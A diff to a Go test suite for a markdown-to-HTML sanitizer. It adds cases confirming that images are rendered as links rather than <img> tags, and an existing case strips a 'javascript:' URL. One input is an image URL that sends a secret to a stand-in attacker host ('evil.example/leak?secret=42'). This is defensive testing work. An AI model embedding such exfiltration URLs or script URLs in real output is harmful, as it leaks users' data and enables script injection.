@@ -20,6 +20,10 @@ func TestHTML(t *testing.T) {
 		{"Link", "[the docs](https://example.com/docs)", []string{`href="https://example.com/docs"`, `rel="nofollow noopener"`, `target="_blank"`}, nil},
 		{"ScriptURL", "[click](javascript:alert(1))", []string{"click"}, []string{"javascript:"}},
 		{"CodeKeepsItsText", "`<b>` is bold", []string{"<code>&lt;b&gt;</code>"}, []string{"<b>"}},
+		{"ImageIsALink", "See ![the chart](https://evil.example/leak?secret=42&x=1)", []string{`<a href="https://evil.example/leak?secret=42&amp;x=1"`, ">the chart</a>"}, []string{"<img"}},
+		{"ImageWithoutText", "![](https://evil.example/a.png)", []string{`<a href="https://evil.example/a.png"`, ">https://evil.example/a.png</a>"}, []string{"<img"}},
+		{"LinkedImage", "[![logo](https://evil.example/l.png)](https://example.com)", []string{"logo"}, []string{"<img"}},
+		{"ImageReference", "![chart][c]\n\n[c]: https://evil.example/c.png", []string{"chart"}, []string{"<img"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
 			got := markdown.HTML(tt.text)
